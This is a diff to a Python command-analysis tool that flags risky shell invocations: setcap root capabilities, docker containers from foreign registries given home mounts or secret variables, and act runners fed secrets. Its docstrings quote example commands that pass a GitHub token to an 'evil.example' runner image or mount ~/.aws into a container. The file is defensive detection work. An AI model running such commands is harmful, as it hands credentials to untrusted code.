@@ -15,10 +15,14 @@ from __future__ import annotations
 import re
 from typing import Final
 
+from phlegyas.analysis.environment import secret_variables
+from phlegyas.analysis.paths import sensitive_reason
 from phlegyas.analysis.shell.invocation import Invocation
 from phlegyas.analysis.tier1.base import INTERPRETERS, SHELLS, Out, add, parse_opts
+from phlegyas.analysis.tier1.words import path_of
 from phlegyas.core.analysis import AnalysisEnv
 from phlegyas.core.model import Verdict
+from phlegyas.core.redact import secret_kind
 
 ROOT_CAPABILITIES: Final = frozenset({
     "cap_setuid", "cap_setgid", "cap_sys_admin", "cap_dac_override", "cap_dac_read_search", "cap_sys_ptrace",
@@ -49,7 +53,8 @@ def detect_setcap(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
         base = target.rsplit("/", 1)[-1]
         program = base.rstrip("0123456789.") or base
         what = ", ".join(sorted(caps))
-        if base in _RUNS_ANYTHING or program in _RUNS_ANYTHING:
+        named = {w.rstrip("0123456789.") for w in re.findall(r"[\w.+-]+", target)} if "$(" in target else set()
+        if base in _RUNS_ANYTHING or program in _RUNS_ANYTHING or named & _RUNS_ANYTHING:
             add(out, "priv.escalation", inv, f"setcap gives {target} {what}: anyone who runs it becomes root")
         else:
             add(out, "priv.escalation", inv, f"setcap gives {target} {what}, a capability that amounts to root",
@@ -180,10 +185,12 @@ def detect_host_root(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
     mounts_home = any(t in ("-v", "--volume") and i + 1 < len(texts) and texts[i + 1].split(":", 1)[0].rstrip("/")
                       in homes for i, t in enumerate(texts))
     image = _image(texts[1:])
-    if mounts_home and image is not None and _foreign_registry(image):
+    given = "the home directory mounted" if mounts_home else "this machine's root file system mounted" if \
+        mounts_root else _secrets_given(texts, env)
+    if given and image is not None and _foreign_registry(image):
         add(out, "net.pipe_to_shell", inv, f"{inv.program} runs the image {image}, fetched from "
-                                           f"{image.split('/', 1)[0]}, with the home directory mounted: its code gets "
-                                           "every key and token there")
+                                           f"{image.split('/', 1)[0]}, with {given}: its code gets every key and "
+                                           "token there")
         return
     if mounts_root and (privileged or "chroot" in texts) or privileged and "nsenter" in texts and "1" in texts:
         add(out, "priv.escalation", inv, f"{inv.program} runs a container with this machine's root file system "
@@ -211,6 +218,34 @@ def _image(texts: list[str]) -> str | None:
             i += 2 if t in _RUN_VALUES else 1
             continue
         return t
+    return None
+
+
+def detect_act_image(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``act -s GITHUB_TOKEN -P ubuntu-latest=evil.example/runner``: the workflow's secrets handed to a runner
+    image from a registry of its own."""
+    texts = [w.text for w in inv.args]
+    images = [v.split("=", 1)[1] for i, t in enumerate(texts[:-1]) if t in ("-P", "--platform")
+              for v in (texts[i + 1],) if "=" in v] + [t.split("=", 2)[2] for t in texts
+                                                       if t.startswith("--platform=") and t.count("=") >= 2]
+    secrets = any(t in ("-s", "--secret", "--secret-file", "--env-file") or t.startswith("--secret") for t in texts)
+    foreign = next((i for i in images if _foreign_registry(i)), None)
+    if foreign is not None and secrets:
+        add(out, "net.pipe_to_shell", inv, f"act runs the workflow in {foreign}, fetched from {foreign.split('/')[0]}, "
+                                           "and hands it the secrets given: its code gets them")
+
+
+def _secrets_given(texts: list[str], env: AnalysisEnv) -> str | None:
+    """What secrets ``docker run`` hands its container: a secret variable (``-e GITHUB_TOKEN``, ``-e
+    K=$AWS_SECRET_ACCESS_KEY``), an env file, a mount of a secret directory (``-v ~/.aws:/root/.aws``)."""
+    for i, t in enumerate(texts[:-1]):
+        value = texts[i + 1]
+        if t in ("-e", "--env") and (secret_kind(value.split("=", 1)[0]) is not None or secret_variables(value)):
+            return f"the secret variable {value.split('=', 1)[0]}"
+        if t == "--env-file":
+            return f"the variables of {value}"
+        if t in ("-v", "--volume") and (p := path_of(value.split(":", 1)[0], env)) and sensitive_reason(p, env.home):
+            return f"{value.split(':', 1)[0]} mounted"
     return None
 
 
